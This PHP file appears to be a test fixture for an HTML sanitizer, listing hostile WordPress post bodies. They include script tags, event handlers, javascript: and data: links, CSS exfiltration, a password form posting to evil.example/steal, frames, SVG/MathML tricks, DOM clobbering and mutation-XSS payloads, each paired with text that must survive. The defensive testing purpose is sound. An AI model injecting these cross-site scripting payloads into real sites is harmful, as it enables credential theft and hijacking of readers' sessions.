<?php
// What a post may hold whose author is careless, bought, or not the author. Whatever succeeds calls evil.example, or
// sets `window.hit`. Each has a line of plain words that must survive.
return [
'hostile-script' => ['Hostile: scripts', <<<'HTML'
<!-- wp:html -->
<p>Words before the scripts.</p>
<script>window.hit="inline";fetch("https://evil.example/inline")</script>
<script src="https://evil.example/a.js"></script>
<script type="module" src="//evil.example/b.mjs"></script>
<SCRIPT/SRC="https://evil.example/c.js"></SCRIPT>
<svg><script href="https://evil.example/d.js"/></svg>
<script type="text/template"><img src=//evil.example/e.png></script>
<scr<script>ipt>window.hit="nested"</scr</script>ipt>
<script
src="https://evil.example/f.js">/*</script>
<p>Words after the scripts.</p>
<!-- /wp:html -->
HTML],
'hostile-handlers' => ['Hostile: handlers', <<<'HTML'
<!-- wp:html -->
<p onclick="window.hit='click'" onmouseover="window.hit='over'" style="position:fixed;inset:0">Words with handlers.</p>
<img src="x" onerror="window.hit='error';fetch('https://evil.example/error')" alt="A picture">
<img src=x onerror=window.hit='bare' /onload=window.hit=2>
<body onload="window.hit='body'" onpageshow="window.hit='show'">
<input autofocus onfocus="window.hit='focus'"><select autofocus onfocus="window.hit='select'"><option>Words of an option</option></select>
<details open ontoggle="window.hit='toggle'"><summary>Words of a summary</summary>Words of details</details>
<video onloadstart="window.hit='video'" src="//evil.example/v.mp4"><source onerror="window.hit='source'"></video>
<marquee onstart="window.hit='marquee'">Words that run</marquee>
<div onanimationstart="window.hit='animation'" style="animation:x 1s">Words that move</div>
<p onpointerrawupdate="window.hit='new'" ONMOUSEENTER="window.hit='upper'" contenteditable onbeforeinput="window.hit='edit'">More words.</p>
<!-- /wp:html -->
HTML],
'hostile-links' => ['Hostile: addresses that run', <<<'HTML'
<!-- wp:html -->
<p><a href="javascript:window.hit='plain'">one</a> <a href="JaVaScRiPt:window.hit='case'">two</a> <a href="&#106;avascript&colon;window.hit='entity'">three</a>
<a href="java&#9;script:window.hit='tab'">four</a> <a href="java
script:window.hit='line'">five</a> <a href=" &#1; javascript:window.hit='control'">six</a> <a href="vbscript:msgbox(1)">seven</a>
<a href="data:text/html,&lt;script&gt;top.hit='data'&lt;/script&gt;">eight</a> <a href="data:text/html;base64,PHNjcmlwdD50b3AuaGl0PTE8L3NjcmlwdD4=">nine</a>
<a href="blob:https://evil.example/x">ten</a> <a href="file:///etc/passwd">eleven</a> <a href="view-source:javascript:1">twelve</a> <a href="feed:javascript:window.hit=1">thirteen</a></p>
<p><a href="https://ok.example/" ping="https://evil.example/ping" target="_blank" rel="opener">pinged</a> <a href="https://ok.example/" onclick="location='https://evil.example/'" download="x.exe">loaded</a></p>
<map name="m"><area shape="default" href="javascript:window.hit='area'" alt="area"></map><img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="">
<a href="https://user:pass@evil.example/">with a password</a> <a href="http://wordpress.example@evil.example/">with our name</a> <a href="http://wordpress.example.evil.example/">nearly ours</a> <a href="\\evil.example\x">backwards</a> <a href="/\evil.example">half</a>
<!-- /wp:html -->
HTML],
'hostile-style' => ['Hostile: styles', <<<'HTML'
<!-- wp:html -->
<style>body{display:none}@import url(https://evil.example/import.css);p{background:url(//evil.example/p.png)}input[value^="a"]{background:url(//evil.example/a)}</style>
<link rel="stylesheet" href="https://evil.example/s.css">
<p style="background-image:url('https://evil.example/bg.png');position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999">Words under a curtain.</p>
<p style="background:u\72l(//evil.example/escaped.png)">Words with an escape.</p>
<p style="width:expression(window.hit='expression');behavior:url(//evil.example/x.htc);-moz-binding:url(//evil.example/x.xml#a)">Words of old browsers.</p>
<p style="list-style:image-set('//evil.example/set.png' 1x);cursor:url(//evil.example/c.cur),auto;content:url(//evil.example/t.png);--x:url(//evil.example/var.png)">Words with sets.</p>
<div style="opacity:0;font-size:0"><a href="https://evil.example/click">Words that cannot be seen</a></div>
<!-- /wp:html -->
HTML],
'hostile-form' => ['Hostile: forms', <<<'HTML'
<!-- wp:html -->
<form action="https://evil.example/steal" method="post" id="f"><label>Your password <input type="password" name="p" autocomplete="current-password"></label><button>Sign in</button><textarea>Words in a field</textarea></form>
<button form="f" formaction="javascript:window.hit='formaction'">Press</button><input type="image" src="//evil.example/i.png" formaction="https://evil.example/" alt="send">
<input type="submit" value="Words on a button" formaction="https://evil.example/">
<isindex action="javascript:window.hit='isindex'" prompt="x"><keygen name="k"><output>Words of output</output>
<dialog open>Words of a dialogue <form method="dialog"><button>OK</button></form></dialog>
<!-- /wp:html -->
HTML],
'hostile-frames' => ['Hostile: frames', <<<'HTML'
<!-- wp:html -->
<p>Words before the frames.</p>
<iframe srcdoc="&lt;script&gt;parent.hit='srcdoc'&lt;/script&gt;"></iframe>
<iframe src="javascript:parent.hit='frame'"></iframe>
<iframe src="data:text/html,&lt;script&gt;parent.hit=1&lt;/script&gt;"></iframe>
<iframe src="https://www.youtube.com/embed/x" srcdoc="&lt;img src=//evil.example/s.png&gt;"></iframe>
<iframe src="https://www.youtube.com.evil.example/embed/x" allow="camera *; microphone *; geolocation *" sandbox="allow-same-origin allow-scripts allow-top-navigation" name="top" onload="window.hit='onload'"></iframe>
<iframe src="http://wordpress.example/wp-admin/"></iframe>
<frameset onload="window.hit='frameset'"><frame src="https://evil.example/"></frameset>
<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/"></fencedframe>
<p>Words after the frames.</p>
<!-- /wp:html -->
HTML],
'hostile-svg' => ['Hostile: SVG and MathML', <<<'HTML'
<!-- wp:html -->
<svg onload="window.hit='svg'" width="10" height="10"><a xlink:href="javascript:window.hit='xlink'"><text y="9">Words drawn</text></a><image href="//evil.example/i.png" xlink:href="//evil.example/x.png"/><use href="https://evil.example/u.svg#a"/><animate attributeName="href" values="javascript:window.hit='animate'" onbegin="window.hit='begin'"/><set attributeName="onmouseover" to="window.hit='set'"/><foreignObject><iframe src="https://evil.example/"></iframe><p>Words within</p></foreignObject><style>*{fill:url(//evil.example/f)}</style><title><img src=x onerror="window.hit='title'"></title></svg>
<math><mtext><a href="javascript:window.hit='math'">Words of mathematics</a></mtext><maction actiontype="statusline#https://evil.example" xlink:href="javascript:window.hit=1">x</maction><mi>y</mi></math>
<!-- /wp:html -->
HTML],
'hostile-head' => ['Hostile: what belongs in a head', <<<'HTML'
<!-- wp:html -->
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/" target="_top"><title>Another title</title>
<link rel="prefetch" href="https://evil.example/p"><link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example"><link rel="manifest" href="https://evil.example/m.json"><link rel="icon" href="https://evil.example/i.ico">
<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name="referrer" content="unsafe-url">
<p>Words after the head. <a href="relative/page">A relative link</a> <img src="relative.png" alt="A relative picture"></p>
</body></html><p>Words after the end.</p><!DOCTYPE html><html lang="xx" dir="rtl" class="taken"><head></head><body class="taken" style="display:none">
<p>Words of a second page.</p>
<!-- /wp:html -->
HTML],
'hostile-objects' => ['Hostile: objects', <<<'HTML'
<!-- wp:html -->
<object data="https://evil.example/o.swf" type="application/x-shockwave-flash"><param name="movie" value="https://evil.example/o.swf"><p>Words instead of an object.</p></object>
<object data="javascript:window.hit='object'"></object><object data="data:text/html,&lt;script&gt;parent.hit=1&lt;/script&gt;" type="text/html">Other words instead.</object>
<embed src="https://evil.example/e.swf" allowscriptaccess="always"><applet code="X" codebase="https://evil.example/">Words instead of an applet.</applet>
<p>Words after the objects.</p>
<!-- /wp:html -->
HTML],
'hostile-pictures' => ['Hostile: pictures that tell', <<<'HTML'
<!-- wp:html -->
<p>Words about pictures.</p>
<img src=//evil.example><img src="https://evil.example/pixel.gif?reader=1" width="1" height="1" alt="">
<img src="http://wordpress.example/wp-content/uploads/2024/01/map.png" srcset="https://evil.example/a.png 1x, //evil.example/b.png 2x" sizes="100vw" alt="A map" lowsrc="//evil.example/l.png" dynsrc="//evil.example/d.png" longdesc="//evil.example/t.html">
<picture><source srcset="https://evil.example/p.webp" type="image/webp"><img src="x.png" alt="In a picture"></picture>
<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>
<video><source src="https://evil.example/v.webm"><track default src="https://evil.example/t.vtt"></video>
<image src="https://evil.example/image.png"><bgsound src="https://evil.example/b.mid"><table background="https://evil.example/t.png"><tr><td background="//evil.example/td.png">Words in a cell</td></tr></table>
<blockquote cite="https://evil.example/cite">Words quoted</blockquote>
<!-- /wp:html -->
HTML],
'hostile-data' => ['Hostile: data addresses', <<<'HTML'
<!-- wp:html -->
<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='parent.hit=1'%3E%3Cimage href='//evil.example/x'/%3E%3C/svg%3E" alt="Drawn">
<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" alt="Not a picture">
<iframe src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='top.hit=1'/&gt;"></iframe>
<embed src="data:text/html,&lt;script&gt;top.hit=1&lt;/script&gt;"><audio src="data:audio/wav;base64,UklGRg=="></audio>
<a href="data:image/svg+xml,<svg onload=alert(1)>">Words of a link</a>
<!-- /wp:html -->
HTML],
'hostile-names' => ['Hostile: names that clobber', <<<'HTML'
<!-- wp:html -->
<form id="document" name="body"><input name="attributes"><input name="nodeName"><input id="parentNode" name="childNodes"><input name="removeChild"><p>Words in a clobbered form.</p></form>
<a id="root">root</a><a id="location" href="https://evil.example/">location</a><img name="cookie" src="x" alt=""><a id="trustedTypes"></a><a id="config"></a><a id="config" name="url" href="https://evil.example/">config</a>
<div id="comments">Words that pretend to be the comments.</div><div id="__proto__">proto</div><div id="constructor" class="hasOwnProperty">constructor</div><p id="main" name="getElementById" is="x-y" slot="z">named</p>
<iframe name="self" src="about:blank"></iframe><output name="defaultView">view</output>
<!-- /wp:html -->
HTML],
'hostile-mutation' => ['Hostile: markup that changes when read again', <<<'HTML'
<!-- wp:html -->
<p>Words before.</p>
<noscript><p title="</noscript><img src=x onerror=window.hit='noscript' a='">quiet'</p></noscript>
<svg></p><style><a id="</style><img src=x onerror=window.hit='style'>"></a></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit='mglyph'&gt;">
</style></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit='form'></style></mglyph></form></mtext></math></form>
<svg><desc><noembed></noembed></desc><p><style><a title="</style><img src onerror=window.hit='desc'>"></style></p></svg>
<p id="</textarea><img src=x onerror=window.hit='textarea'>"><textarea><p title="</textarea><img src=x onerror=window.hit='area'>">t</textarea></p>
<xmp><p title="</xmp><img src=x onerror=window.hit='xmp'>">x</xmp><title><a title="</title><img src=x onerror=window.hit='titl'>"></title>
<p title="`><img src=x onerror=window.hit='tick'>">tick</p><p>Words after.</p>
<!-- /wp:html -->
HTML],
'hostile-template' => ['Hostile: templates and shadows', <<<'HTML'
<!-- wp:html -->
<template><img src="https://evil.example/t.png" onerror="window.hit='template'"><script>window.hit='ts'</script><p>Words in a template.</p></template>
<div><template shadowrootmode="open"><style>:host{position:fixed;inset:0}</style><script>window.hit='shadow'</script><img src="//evil.example/shadow.png"><slot></slot></template>Words in a shadow's light.</div>
<template><template><iframe src="https://evil.example/"></iframe></template></template>
<slot name="x">Words in a slot.</slot><p>Words after the templates.</p>
<!-- /wp:html -->
HTML],
'hostile-comments' => ['Hostile: HTML comments', <<<'HTML'
<!-- wp:html -->
<p>Words before.</p>
<!--><img src=x onerror=window.hit='short'>-->
<!---><img src=x onerror=window.hit='shorter'>-->
<!--!><img src=x onerror=window.hit='bang'>--!><img src=x onerror=window.hit='bangend'>
<noscript><!-- </noscript><img src=x onerror=window.hit='noscript'> --></noscript>
<!--[if IE]><script>window.hit='ie'</script><![endif]--><![CDATA[<img src=x onerror=window.hit='cdata'>]]><?php echo 1 ?><?xml-stylesheet href="//evil.example/x.css"?>
<noembed><!--</noembed><img src=x onerror=window.hit='noembed'>--></noembed><noframes><p>old frames</p></noframes>
<p>Words after.</p>
<!-- /wp:html -->
HTML],
'hostile-classic' => ['Hostile: classic and careless', <<<'HTML'
Words of a widget: <script type="text/javascript">
document.write("<img src='//evil.example/w.gif'>");

window.hit = "classic";
</script>

[caption width="300" caption="<img src=x onerror=window.hit='caption'>"]<img src="x.png" width="300" height="1" onerror="window.hit='in'" />[/caption]

<a href='javascript:void(0)' onmousedown="window.hit='down'">Press me</a> <plaintext_>words</plaintext_> <blink>words that blink</blink> <?php echo "words of PHP"; ?>

<div id="amzn-ad" data-src="https://evil.example/ad"></div><script async src="https://evil.example/ads.js"></script>
<a href="https://evil.example/" style="display:block;position:absolute;top:0;left:0;width:100%;height:100%"></a>
HTML],
'hostile-deep' => ['Hostile: very deep', '<!-- wp:html -->' . str_repeat('<div><b>', 400) . 'Words at the bottom.' . str_repeat('</b></div>', 400) . '<p>Words above.</p><!-- /wp:html -->'],
'hostile-text' => ['Hostile: letters that lie', "<!-- wp:html --><p>Turned \u{202E}round\u{202C}, joined\u{200B}\u{200D}\u{FEFF}, a null &#0; and &#x80; and &#xD800;, Z\u{0335}\u{0321}a\u{0356}\u{0357}l\u{0334}\u{0322}g\u{0338}o, &lt;script&gt;window.hit='text'&lt;/script&gt; as text.</p><p lang=\"en\" dir=\"rtl\" translate=\"no\" hidden>Words that were hidden.</p><p aria-hidden=\"true\" inert tabindex=\"5\" accesskey=\"s\" role=\"alert\">Words that were silenced.</p><plaintext>Words to the end <b>of all</b>.<!-- /wp:html -->"],
];
